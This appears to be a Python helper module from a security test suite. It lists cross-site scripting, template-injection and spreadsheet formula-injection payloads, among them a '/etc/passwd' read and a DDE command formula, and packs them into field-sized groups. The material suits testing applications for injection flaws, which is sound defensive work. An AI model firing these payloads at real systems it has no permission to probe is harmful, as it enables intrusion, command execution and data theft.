"""Text that means harm: to a browser, a spreadsheet, a template, a typesetter."""

MARK = "mk7"
PRODUCT, ANSWER = "1234*4321", "5332114"
SCRIPTS = [
    f"<script>{MARK}()</script>", f"<ScRiPt>{MARK}()</sCrIpT>", f"<script src=//{MARK}.example>",
    f"<img src=x onerror={MARK}()>", f"<svg onload={MARK}()>", f"<svg/onload={MARK}()>",
    f"<body onload={MARK}()>", f"<iframe src=javascript:{MARK}()>", f"<math><{MARK}>",
    f"<details open ontoggle={MARK}()>", f"<input autofocus onfocus={MARK}()>",
    f'"><script>{MARK}()</script>', f"'><script>{MARK}()</script>", f'" onmouseover="{MARK}()',
    f"' onmouseover='{MARK}()", f"` onmouseover=`{MARK}()", f'"/><{MARK}>', f"--><{MARK}>",
    f"]]><{MARK}>", f"</title><{MARK}>", f"</textarea><{MARK}>", f"</script><{MARK}>",
    f"</style><{MARK}>", f"javascript:{MARK}()", f"JaVaScRiPt:{MARK}()", f"data:text/html,{MARK}",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;", f"&#60;{MARK}&#62;", f"\\u003c{MARK}\\u003e",
    f"<a href=javascript:{MARK}()>a</a>", f"<form action=//{MARK}.example>",
    f"<base href=//{MARK}>",
    f"<link rel=stylesheet href=//{MARK}>", f"<meta http-equiv=refresh content=0;url=//{MARK}>",
    f"<object data=//{MARK}>", f"<embed src=//{MARK}>", f"<template><{MARK}>", f"%3C{MARK}%3E",
    f"<x {MARK}=1>", f"+ADw-{MARK}+AD4-",
]  # fmt: skip
TEMPLATES = [
    "{{" + PRODUCT + "}}", "{%print(" + PRODUCT + ")%}", "${" + PRODUCT + "}", "#{" + PRODUCT + "}",
    "<%=" + PRODUCT + "%>", "{0.__class__}", "%(secret)s", "{{config}}", "{{self.__init__}}",
    "#(" + PRODUCT + ")", '#read("/etc/passwd")', "#import sys", "$" + PRODUCT + "$", "[[" + MARK,
]  # fmt: skip
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//x")']


def groups(most=150):
    """All of them, some at a time, each group beginning with a formula, as text for one field."""
    found, texts = [], [*SCRIPTS, *TEMPLATES]
    while texts:
        group = FORMULAS[len(found) % len(FORMULAS)]
        while texts and len(group) + len(texts[0]) < most:
            group += " " + texts.pop(0)
        found.append(group)
    return found
